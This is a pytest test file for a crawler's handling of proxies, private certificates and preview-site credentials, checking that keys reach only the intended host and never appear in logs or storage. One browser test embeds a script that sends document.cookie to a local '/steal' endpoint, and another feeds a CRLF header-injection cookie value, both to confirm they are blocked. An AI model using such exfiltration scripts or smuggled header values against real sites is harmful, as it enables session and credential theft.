"""Proxies, private certificates and preview systems: reached, and their keys told to nobody else."""

import logging
import os
import zlib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from browser_site import needs_browser, page, stored
from misbehaving import DAY, Stored, _context, site
from reached import COOKIE, ENVIRON, PAIR, PROXY_PAIR, SECRETS, private_authority, proxy, reached

from checks.errors import UserError
from checks.site import LinkState
from crawler.access import Access, Network
from crawler.browser.manners import Manners
from crawler.browser.replay import Replay
from crawler.browser.session import Session
from crawler.doctor.configuration import look as doctor
from crawler.doctor.finding import Health
from crawler.media.credentials import Credentials
from crawler.probe import why_not_now
from crawler.sites import SiteConfig, SitesError, SitesFile
from crawler.sites_file import dumps, load, loads
from crawler.store import Store
from crawler.way import Way

PREVIEW = Access(basic="preview", cookie="preview")


@pytest.fixture(autouse=True)
def _keys(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in ENVIRON.items():
        monkeypatch.setenv(name, value)


def leaks(folder: Path) -> list[str]:
    """Names of files that contain a key, packed bodies included."""
    found = []
    for path in (p for p in folder.rglob("*") if p.is_file()):
        body = path.read_bytes()
        if path.suffix == ".sqlite":
            with Store(path) as store:
                rows = store.connection.execute("SELECT data FROM bodies").fetchall()
            body += b"".join(zlib.decompress(data) for (data,) in rows)
        found += [f"{path.name}: {s}" for s in SECRETS if s.encode() in body]
    return found


def crawled(config: SiteConfig, folder: Path, *, loud: bool = False) -> Any:
    """Crawl in a process of its own, with the keys that are in the environment now."""
    context = _context()
    outcome = context.Queue()
    arguments = (outcome, config, folder, dict(os.environ), loud)
    process = context.Process(target=_crawl, args=arguments)
    process.start()
    run = outcome.get(timeout=240)
    process.join()
    return run


def _crawl(outcome: Any, config: SiteConfig, folder: Path, environ: Any, loud: bool) -> None:
    """``loud``: everything there is to log is logged, requests with their headers, too."""
    import crawler.crawl as made
    from crawler.downloader import DirectDownloader

    os.environ.update(environ)
    if loud:
        logging.basicConfig(filename=folder / "log.txt", level=logging.DEBUG, encoding="utf-8")
        made.quiet_logs = lambda: None
        usual = DirectDownloader.direct

        async def told(self: Any, request: Any) -> Any:
            logging.getLogger("loud").debug("Crawled %s %s", request.url, request.headers)
            return await usual(self, request)

        DirectDownloader.direct = told  # type: ignore[method-assign]
    path, when = folder / "t.sqlite", {"month": "2026-11", "as_of": DAY}
    outcome.put(made.crawl(config, path, contact="", **when))


def test_keys_go_to_the_preview_system_alone_and_are_nowhere_afterwards(tmp_path: Path) -> None:
    with reached() as preview, reached("127.0.0.2") as other, reached() as neighbour:
        preview.wants_keys = True
        preview.redirects["/away"] = f"{other.url}/landed"
        links = ("/2", "/away", f"{other.url}/page", f"{neighbour.url}/same-host")
        anchors = "".join(f'<a href="{link}">x</a>' for link in links)
        preview.pages |= {
            "/": f"{anchors}<script src='{other.url}/x.js'></script>",
            "/2": "<p>ECHO",
        }
        config = replace(site(preview.url, obey_robots=True), access=PREVIEW)
        run = crawled(config, tmp_path, loud=True)
        assert run.stop_reason == "finished"
        assert preview.keys_seen() == {f"Basic {PAIR}", COOKIE}
        assert "/robots.txt" in {path for path, _ in preview.seen}
        assert {"/landed", "/page", "/x.js"} <= {path for path, _ in other.seen}
        assert "/same-host" in {path for path, _ in neighbour.seen}
        assert other.keys_seen() | neighbour.keys_seen() == set()
        assert not any("referer" in headers for _, headers in other.seen)
    stored_rows = Stored(tmp_path / "t.sqlite")
    assert stored_rows.state(f"{preview.url}/2") == LinkState.OK
    assert "凭据" in run.counts["way"]
    assert b"Crawled http" in (tmp_path / "log.txt").read_bytes()
    assert b"***" in (tmp_path / "log.txt").read_bytes()
    assert leaks(tmp_path) == []


def test_a_proxy_is_used_for_all_but_what_is_exempt(tmp_path: Path) -> None:
    ca, pem = private_authority(tmp_path, "127.0.0.1")
    with proxy() as way_out, reached() as home, reached("127.0.0.3") as near:
        with reached(tls=pem) as secure:
            gone = "http://no-such-host.invalid/"
            home.pages["/"] = (
                f"<a href='{secure.url}/s'>s</a><a href='{near.url}/n'>n</a><a href='{gone}'>g</a>"
            )
            secure.pages["/s"] = near.pages["/n"] = "<p>x"
            network = Network(way_out.url, "proxy", ("127.0.0.3",), str(ca))
            config = replace(site(home.url), network=network)
            run = crawled(config, tmp_path)
            assert run.stop_reason == "finished"
            asked = {path for path, _ in way_out.seen}
            assert f"{home.url}/" in asked
            assert secure.url.removeprefix("https://") in asked
            assert not any("127.0.0.3" in path for path in asked)
            assert near.seen
            assert way_out.keys_seen() == {f"Basic {PROXY_PAIR}"}
            assert home.keys_seen() | secure.keys_seen() | near.keys_seen() == set()
        rows = Stored(tmp_path / "t.sqlite")
        assert rows.state(f"{secure.url}/s") == LinkState.OK
        assert (
            rows.state(gone) == LinkState.SUSPECT
        )  # a proxy's word is no proof that a name is gone
    assert leaks(tmp_path) == []


@pytest.mark.parametrize(
    "there",
    [True, pytest.param(False, marks=pytest.mark.full)],
    ids=["wrong password", "no proxy there"],
)
def test_a_proxy_at_fault_makes_nothing_dead(
    tmp_path: Path, there: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GOVCHECK_CRED_PROXY_PASSWORD", "another-made-up-word")
    with proxy() as way_out:
        url = way_out.url if there else "http://127.0.0.1:9"
        config = replace(site("https://no-such-host.invalid/"), network=Network(url, "proxy"))
        run = crawled(config, tmp_path)
    rows = Stored(tmp_path / "t.sqlite")
    assert run.stop_reason == "home-unreachable"
    assert rows.state(config.url) == LinkState.UNVERIFIABLE
    assert ("密码不对" if there else "连不上代理") in rows.reason(config.url)


@pytest.mark.parametrize("trusted", [True, False])
def test_over_https_keys_are_sent_when_the_certificate_is_verified(
    tmp_path: Path, trusted: bool
) -> None:
    ca, pem = private_authority(tmp_path, "127.0.0.1")
    with reached(tls=pem) as preview:
        preview.wants_keys, preview.pages["/"] = True, "<p>x"
        network = Network(ca_file=str(ca)) if trusted else Network()
        config = replace(site(preview.url), access=PREVIEW, network=network)
        run = crawled(config, tmp_path)
    rows = Stored(tmp_path / "t.sqlite")
    if trusted:
        assert run.stop_reason == "finished"
        assert preview.keys_seen() == {f"Basic {PAIR}", COOKIE}
    else:
        assert preview.seen == []
        assert rows.state(f"{preview.url}/") == LinkState.UNVERIFIABLE
        assert rows.reason(f"{preview.url}/") == "证书核对不上，没有发送凭据"


@pytest.mark.browser
def test_the_browser_gets_answers_that_need_keys_and_never_the_keys(tmp_path: Path) -> None:
    needs_browser()
    with reached() as preview, reached("127.0.0.2") as other:
        preview.wants_keys = True
        preview.pages |= {"/live.css": "p{color:rgb(1,2,3)}", "/echo": "ECHO"}
        html = "<link rel=stylesheet href=/live.css><p id=p>x</p><script>fetch('/echo').then(a =>"
        html += " a.text()).then(t => {p.textContent = t});"
        html += f"fetch('{other.url}/steal?c=' + document.cookie).catch(() => 0)</script>"
        home = f"{preview.url}/"
        rows = stored(tmp_path / "t.sqlite", home, [page(home, html)])
        config = replace(site(home), access=PREVIEW)
        way = Way.to(config)
        replay = Replay(rows.path, rows.run.id, config)
        manners = Manners(config.politeness, "", replay.scope, way=way)
        wait = "return [getComputedStyle(p).color, p.textContent, document.cookie]"
        with Session(replay, manners=manners, way=way) as session:
            visit = session.visit(home, {"seen": lambda driver: _until(driver, wait)})
            colour, text, cookie = visit.gathered["seen"]
        replay.close()
    assert colour == "rgb(1, 2, 3)"
    assert "***" in text
    assert not any(secret in text for secret in SECRETS)
    assert cookie == ""
    assert preview.keys_seen() == {f"Basic {PAIR}", COOKIE}
    assert other.seen == []


def _until(driver: Any, script: str) -> Any:
    for _ in range(100):
        found = driver.execute_script(script)
        if found[1] != "x":
            break
    return found


def test_what_is_missing_or_wrong_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = replace(site("https://127.0.0.1/"), access=PREVIEW)
    with pytest.raises(UserError, match="GOVCHECK_CRED_PREVIEW_USER"):
        Way.of(Network(), [config], Credentials({}, lambda service, user: None))
    monkeypatch.setenv("GOVCHECK_CRED_PREVIEW_COOKIE", "a=b\r\nX: y")
    with pytest.raises(UserError, match="换行") as told:
        Way.to(config)
    assert "a=b" not in str(told.value)
    file = SitesFile(tmp_path / "sites.toml", {}, {"t": config})
    [found] = [one for one in doctor(file, DAY) if one.name == "凭据"]
    assert (found.health, "换行" in found.text) == (Health.BAD, True)
    text = '[network]\nproxy = "http://u:secret-word@127.0.0.1:3128"\n'
    text += '[[site]]\nid = "t"\nname = "t"\nurl = "https://127.0.0.1/"\n[site.access]\nbasic = "p@ss word"\n'
    with pytest.raises(SitesError, match=r"不能写用户名和密码") as wrong:
        loads(text)
    assert "site[1].access.basic" in str(wrong.value)
    path = tmp_path / "sites.toml"
    path.write_text('[network]\nca_file = "ca.pem"\n', encoding="utf-8")
    with pytest.raises(SitesError, match=r"没有这个文件"):
        load(path)
    (tmp_path / "ca.pem").write_text("no certificate")
    with pytest.raises(SitesError, match=r"不是 PEM 格式"):
        load(path)


def test_settings_are_written_back_as_they_were_read_and_samples_are_not_taken(
    tmp_path: Path,
) -> None:
    text = '[network]\nproxy = "http://127.0.0.1:3128"\nproxy_credential = "proxy"\ndirect = ["a.cn"]\n'
    text += '[[site]]\nid = "t"\nname = "t"\nurl = "https://127.0.0.1/"\n[site.access]\ncookie = "preview"\n'
    path = tmp_path / "sites.toml"
    path.write_text(text, encoding="utf-8")
    read = load(path)
    assert loads(dumps(read), path) == replace(read, path=path)
    config = read.site("t")
    assert config.access == Access(cookie="preview")
    assert config.network.proxy_of("http://www.a.cn/") == ""
    assert config.network.proxy_of("http://b.cn/") == "http://127.0.0.1:3128"
    at: Any = None
    assert "代理" in why_not_now(config, tmp_path / "none", at, 0)
    straight = replace(config, network=Network())
    assert "预览系统" in why_not_now(straight, tmp_path / "none", at, 0)
